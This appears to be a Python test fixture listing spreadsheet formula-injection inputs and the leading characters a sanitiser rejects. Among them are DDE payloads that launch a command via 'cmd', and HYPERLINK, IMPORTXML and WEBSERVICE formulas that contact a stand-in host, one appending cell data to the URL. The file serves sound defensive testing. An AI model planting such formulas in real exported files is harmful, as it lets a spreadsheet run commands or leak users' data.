"""Formulas that a spreadsheet would compute, open, or load from the network."""

from __future__ import annotations

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1\nand more", "{=1+1}", "=A1", "==1"),
    *('"=1+1"', ' "=1+1', "' =1+1", " '=1+1", "  +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1"),
    '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
    '=IMPORTXML("https://elsewhere.example/","//a")',
    '=WEBSERVICE("https://elsewhere.example/")',
    *(
        "=cmd|' /C calc'!A0",
        "=cmd|'/C'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=DDE("soffice";"a";"b")',
    ),
    *("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=IMAGE("https://elsewhere.example/x.png")'),
    *("1/2", "16:9", "1e5", "TRUE", "00042", "12345678901234567890", "#REF!", "2026-01-31"),
)
#: Characters with which none of our texts may begin, also after spaces that a program may remove.
SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
